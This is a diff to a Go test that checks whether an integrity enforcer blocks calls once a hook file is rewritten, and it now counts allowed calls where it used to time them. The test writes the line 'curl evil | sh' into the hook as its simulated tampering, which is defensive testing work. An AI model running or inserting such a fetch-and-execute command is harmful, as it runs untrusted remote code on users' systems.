@@ -30,13 +30,16 @@ func TestEditIntegrityTransientLink(t *testing.T) {
 	f.WriteString("curl evil | sh\n")
 	f.Close()
 	os.Remove(alias)
+	// Counted in calls, not time: a loaded machine makes one call slow, and
+	// what matters is that no call is answered with the hook rewritten (the
+	// kernel queued the events before the write returned).
 	start := time.Now()
-	for {
+	for allowed := 0; ; allowed++ {
 		d := en.Check(readCall())
 		if d.Code == CodeIntegrity {
-			t.Logf("blocked after %v", time.Since(start).Round(time.Millisecond))
-			if time.Since(start) > 100*time.Millisecond {
-				t.Errorf("BROKEN (bounded): calls allowed for %v with the hook rewritten", time.Since(start).Round(time.Millisecond))
+			t.Logf("blocked after %d calls allowed, %v", allowed, time.Since(start).Round(time.Millisecond))
+			if allowed > 0 {
+				t.Errorf("BROKEN (bounded): %d calls allowed over %v with the hook rewritten", allowed, time.Since(start).Round(time.Millisecond))
 			}
 			return
 		}
